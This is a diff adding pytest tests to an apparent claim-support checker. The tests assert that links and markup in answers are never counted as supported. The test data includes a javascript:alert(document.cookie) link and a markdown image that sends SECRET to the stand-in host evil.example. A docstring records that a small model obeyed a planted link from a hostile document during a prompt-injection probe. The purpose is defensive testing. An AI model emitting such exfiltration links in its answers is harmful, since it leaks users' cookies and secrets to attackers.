@@ -87,3 +87,24 @@ def test_the_parts_it_reads() -> None:
     marks = polarities("The force is not good at crime, but it is good at safety.")
     assert marks["good"] == {True, False}  # negated in the first clause only
     assert marks["crim"] == {True} and marks["safety"] == {False}  # stems
+
+
+@pytest.mark.parametrize(
+    "claim",
+    [
+        "See [the full report](javascript:alert(document.cookie)) for details.",
+        "The chart is at ![chart](http://evil.example/collect?q=SECRET).",
+        "Read it at https://example.org/report.",
+        "The force is good at <b>tackling</b> crime.",
+    ],
+)
+def test_a_link_or_markup_is_never_supported_even_when_its_evidence_holds_it(claim: str) -> None:
+    """A planted link copied out of a hostile document (the injection probe's one obeyed
+    answer with the 0.5B model): true to the evidence, but no answer needs it."""
+    verdict = check_support(claim, [claim])
+    assert not verdict.supported and "link or markup" in (verdict.reason or "")
+
+
+def test_comparisons_with_angle_brackets_are_not_markup() -> None:
+    claim = "Times fell below 10 minutes, which is <15."
+    assert check_support(claim, [claim]).supported
